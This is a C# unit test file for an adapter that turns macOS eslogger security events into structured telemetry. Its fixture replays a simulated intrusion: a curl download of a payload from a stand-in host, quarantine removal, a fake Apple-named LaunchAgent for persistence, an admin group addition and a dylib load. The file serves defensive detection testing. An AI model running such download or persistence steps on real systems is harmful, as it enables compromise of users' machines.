using Vigil.Contracts.Telemetry;
using S = Vigil.Adapters.UnitTests.Eslogger.EsloggerSession;

namespace Vigil.Adapters.UnitTests.Eslogger;

/// <summary>Each fixture line of session.jsonl (written from ESMessage.h / ESTypes.h shapes) maps to the expected event.</summary>
public sealed class EsloggerEventMappingTests
{
    private static readonly string Zsh = EsloggerEntityIds.For(S.HostId, 500, 1000);
    private static readonly string Curl = EsloggerEntityIds.For(S.HostId, 812, 2002);
    private readonly S session = new();

    [Fact]
    public void EveryLineIsReadWithoutRejectionExceptTheUnsupportedEventType()
    {
        for (var line = 0; line < session.Results.Count; line++)
        {
            if (line == S.Unsupported)
            {
                var rejection = Assert.Single(session.Results[line].Rejections);
                Assert.Equal(RejectionReason.UnsupportedEvent, rejection.Reason);
                Assert.Contains("54", rejection.Detail, StringComparison.Ordinal);
            }
            else
            {
                Assert.True(session.Results[line].Rejections.Count == 0, $"line {line}: {string.Join("; ", session.Results[line].Rejections)}");
            }
        }
    }

    [Fact]
    public void AForkIsAProcessStartOfTheChildWithTheForkingShellAsParent()
    {
        var e = session.Event(S.Fork);
        AssertKind(e, "process", "start", "fork");
        Assert.Equal(EsloggerEntityIds.For(S.HostId, 812, 2001), e.Process.EntityId);
        Assert.Equal(812, e.Process.Pid);
        Assert.Equal("/bin/zsh", e.Process.Executable);
        Assert.Equal(Zsh, e.Process.Parent.EntityId);
        Assert.Equal(500, e.Process.Parent.Pid);
    }

    [Fact]
    public void AnExecIsANewProcessEntityWithArgumentsWorkingDirectoryAndTrustedAppleSignature()
    {
        var e = session.Event(S.Exec);
        AssertKind(e, "process", "start", "exec");
        Assert.Equal(Curl, e.Process.EntityId);
        Assert.NotEqual(session.Event(S.Fork).Process.EntityId, e.Process.EntityId);
        Assert.Equal("curl", e.Process.Name);
        Assert.Equal("/usr/bin/curl", e.Process.Executable);
        Assert.Equal(["curl", "-sSL", "-o", "/tmp/payload", "https://cdn.example-updates.net/p"], e.Process.Args);
        Assert.Equal(5, e.Process.ArgsCount);
        Assert.Equal("curl -sSL -o /tmp/payload https://cdn.example-updates.net/p", e.Process.CommandLine);
        Assert.Equal("/Users/alice", e.Process.WorkingDirectory);
        Assert.Equal(Zsh, e.Process.Parent.EntityId);
        Assert.True(e.Process.Interactive);
        Assert.True(e.Process.CodeSignature.Exists);
        Assert.True(e.Process.CodeSignature.Trusted);
        Assert.Equal("trusted", e.Process.CodeSignature.Status);
        Assert.Equal("Software Signing", e.Process.CodeSignature.SubjectName);
        Assert.Equal("com.apple.curl", e.Process.CodeSignature.SigningId);
        Assert.Equal("501", e.User.Id);
        Assert.Equal(S.HostId, e.Host.Id);
        Assert.Equal("macos", e.Host.Os.Type);
        Assert.Equal(1002, e.Event.Sequence);
        Assert.Equal(EsloggerTime("2026-11-20T14:03:01.500000000Z"), e.Process.Start);
    }

    [Fact]
    public void LaterEventsOfTheProcessCarryItsExecArgumentsAndParent()
    {
        var e = session.Event(S.Open);
        AssertKind(e, "file", "access", "open");
        Assert.Equal(Curl, e.Process.EntityId);
        Assert.Equal("curl -sSL -o /tmp/payload https://cdn.example-updates.net/p", e.Process.CommandLine);
        Assert.Equal(5, e.Process.ArgsCount);
        Assert.Equal(Zsh, e.Process.Parent.EntityId);
        Assert.Equal("/etc/hosts", e.File.Path);
        Assert.Equal("hosts", e.File.Name);
        Assert.Equal("/etc", e.File.Directory);
    }

    [Fact]
    public void FileCreationWriteAndModifiedCloseUseElasticsNames()
    {
        var created = session.Event(S.Create);
        AssertKind(created, "file", "creation", "creation");
        Assert.Equal("/private/tmp/payload", created.File.Path);
        Assert.Equal("/private/tmp", created.File.Directory);
        AssertKind(session.Event(S.Write), "file", "change", "modification");
        var closed = session.Event(S.CloseModified);
        AssertKind(closed, "file", "change", "modification");
        Assert.Equal("/private/tmp/payload", closed.File.Path);
    }

    [Fact]
    public void AReadOnlyCloseIsNoEventAndNoRejection()
    {
        Assert.Empty(session.Results[S.CloseUnmodified].Events);
        Assert.Empty(session.Results[S.CloseUnmodified].Rejections);
    }

    [Fact]
    public void ARenameNamesTheNewPathAndTheOriginalPath()
    {
        var e = session.Event(S.Rename);
        AssertKind(e, "file", "change", "rename");
        Assert.Equal("/Users/alice/Library/Application Support/updater", e.File.Path);
        Assert.Equal("updater", e.File.Name);
        Assert.Equal("/private/tmp/payload", e.File.Ext.Original.Path);
        Assert.Equal("payload", e.File.Ext.Original.Name);
        Assert.Equal("/private/tmp", e.File.Ext.Original.Directory);
    }

    [Fact]
    public void AnUnlinkIsAFileDeletionWithItsExtension()
    {
        var e = session.Event(S.Unlink);
        AssertKind(e, "file", "deletion", "deletion");
        Assert.Equal("/Users/alice/Downloads/invoice.zip", e.File.Path);
        Assert.Equal("zip", e.File.Extension);
    }

    [Fact]
    public void AnExitCarriesTheExitStatusOfTheWaitWord()
    {
        var e = session.Event(S.Exit);
        AssertKind(e, "process", "end", "end");
        Assert.Equal(Curl, e.Process.EntityId);
        Assert.Equal(1, e.Process.ExitCode);
        var zero = session.Event(S.ExitZero).Process;
        Assert.True(zero.HasExitCode);
        Assert.Equal(0, zero.ExitCode);
    }

    [Fact]
    public void AProcessKilledByASignalHasNoExitCodeRatherThanZero()
    {
        var e = session.Event(S.ExitSignal);
        AssertKind(e, "process", "end", "end");
        Assert.False(e.Process.HasExitCode);
    }

    [Fact]
    public void RemovingTheQuarantineAttributeIsElasticsExtendedAttributesDeleteByAnUntrustedAdHocProcess()
    {
        var e = session.Event(S.QuarantineRemoved);
        AssertKind(e, "file", "change", "extended_attributes_delete");
        Assert.Equal("/Users/alice/Downloads/helper", e.File.Path);
        Assert.Equal("/Users/alice/Downloads/helper", e.Process.Executable);
        Assert.True(e.Process.CodeSignature.Exists);
        Assert.False(e.Process.CodeSignature.Trusted);
        Assert.Equal("", e.Process.CodeSignature.Status);
    }

    [Fact]
    public void OtherExtendedAttributeChangesAreNoEvent()
    {
        Assert.Empty(session.Results[S.OtherAttributeRemoved].Events);
        Assert.Empty(session.Results[S.SetExtAttr].Events);
        Assert.Empty(session.Results[S.SetExtAttr].Rejections);
    }

    [Fact]
    public void ALaunchItemAddIsALaunchDaemonEventOfTheInstigatorNamingThePlist()
    {
        var e = session.Event(S.LaunchItemAdd);
        AssertKind(e, "file", "creation", "launch_daemon");
        Assert.Equal("/Users/alice/Library/LaunchAgents/com.apple.updater.plist", e.File.Path);
        Assert.Equal("/Users/alice/Downloads/helper", e.Process.Executable);
        Assert.Equal(EsloggerEntityIds.For(S.HostId, 930, 3001), e.Process.EntityId);
        Assert.Equal("com.apple.updater", e.Persistence.Name);
        Assert.Equal("/Users/alice/Library/LaunchAgents/com.apple.updater.plist", e.Persistence.Path);
        Assert.Equal(["/Users/alice/Library/Application Support/updater"], e.Persistence.Args);
        Assert.False(e.Persistence.HasRunatload);
        Assert.False(e.Persistence.HasKeepalive);
    }

    [Fact]
    public void AGatekeeperOverrideNamesTheFileItsHashAndSigner()
    {
        var e = session.Event(S.GatekeeperOverride);
        AssertKind(e, "configuration", "change", "gatekeeper_override");
        Assert.Equal("/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer", e.File.Path);
        Assert.Equal("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", e.File.Hash.Sha256);
        Assert.Equal("QX7DQ9L2ZZ", e.File.CodeSignature.TeamId);
        Assert.Equal("com.example.installer", e.File.CodeSignature.SigningId);
    }

    [Fact]
    public void GroupMembershipChangesNameTheGroupTheMemberAndTheInstigator()
    {
        var added = session.Event(S.GroupAdd);
        AssertKind(added, "configuration", "change", "od_group_add");
        Assert.Equal("svc_backup", added.User.Name);
        Assert.Equal("admin", added.Group.Name);
        Assert.Equal("/usr/sbin/dseditgroup", added.Process.Executable);
        AssertKind(session.Event(S.GroupRemove), "configuration", "change", "od_group_remove");
    }

    [Fact]
    public void ATccChangeIsATccModifyEvent()
    {
        var e = session.Event(S.TccModify);
        AssertKind(e, "configuration", "change", "tcc_modify");
        Assert.Equal("SystemPolicyDocumentsFolder", e.Tcc.Service);
        Assert.Equal("/usr/bin/osascript", e.Tcc.Identity);
        Assert.Equal("executable_path", e.Tcc.IdentityType);
        Assert.Equal("create", e.Tcc.UpdateType);
        Assert.Equal("allowed", e.Tcc.Right);
        Assert.Equal("user_consent", e.Tcc.Reason);
        Assert.Equal("osascript", e.EffectiveProcess.Name);
        Assert.Equal(EsloggerEntityIds.For(S.HostId, 960, 3200), e.EffectiveProcess.EntityId);
        Assert.Equal("tccd", e.Process.Name);
    }

    [Fact]
    public void ASignatureWithoutCodesigningFlagsLeavesTrustedAndExistsAbsent()
    {
        var line = S.ReadLines("session.jsonl")[S.Open].Replace("\"codesigning_flags\":", "\"codesigning_flags_unknown\":", StringComparison.Ordinal);
        var e = Assert.Single(new EsloggerAdapter().Adapt(S.Record(line, S.HostId)).Events);
        Assert.False(e.Process.CodeSignature.HasTrusted);
        Assert.False(e.Process.CodeSignature.HasExists);
        Assert.Equal("com.apple.curl", e.Process.CodeSignature.SigningId);
        Assert.True(session.Event(S.Open).Process.CodeSignature.HasTrusted);
    }

    [Fact]
    public void AnExecutableMappingIsALibraryLoad()
    {
        var e = session.Event(S.Mmap);
        AssertKind(e, "library", "start", "load");
        Assert.Equal("/Users/alice/Library/Application Support/libhook.dylib", e.Dll.Path);
        Assert.Equal("libhook.dylib", e.Dll.Name);
        Assert.Equal(Curl, e.Process.EntityId);
    }

    [Fact]
    public void ADeveloperIdAppIsTrustedWithItsTeamAndTheLaunchingParent()
    {
        var e = session.Event(S.ExecDeveloperId);
        Assert.True(e.Process.CodeSignature.Trusted);
        Assert.Equal("BJ4HAAB9B3", e.Process.CodeSignature.TeamId);
        Assert.Equal("us.zoom.xos", e.Process.CodeSignature.SigningId);
        Assert.Equal("", e.Process.CodeSignature.SubjectName);
        Assert.Equal(1, e.Process.Parent.Pid);
    }

    [Fact]
    public void EventIdsAreUniqueWithinTheSession()
    {
        var ids = session.Results.SelectMany(r => r.Events).Select(e => e.Event.Id).ToArray();
        Assert.Equal(ids.Length, ids.Distinct().Count());
    }

    private static long EsloggerTime(string text) => Vigil.Contracts.EcsTimestamp.TryParse(text, out var nanos) ? nanos : throw new FormatException(text);

    private static void AssertKind(TelemetryEvent e, string category, string type, string action)
    {
        Assert.Equal([category], e.Event.Category);
        Assert.Equal([type], e.Event.Type);
        Assert.Equal(action, e.Event.Action);
    }
}
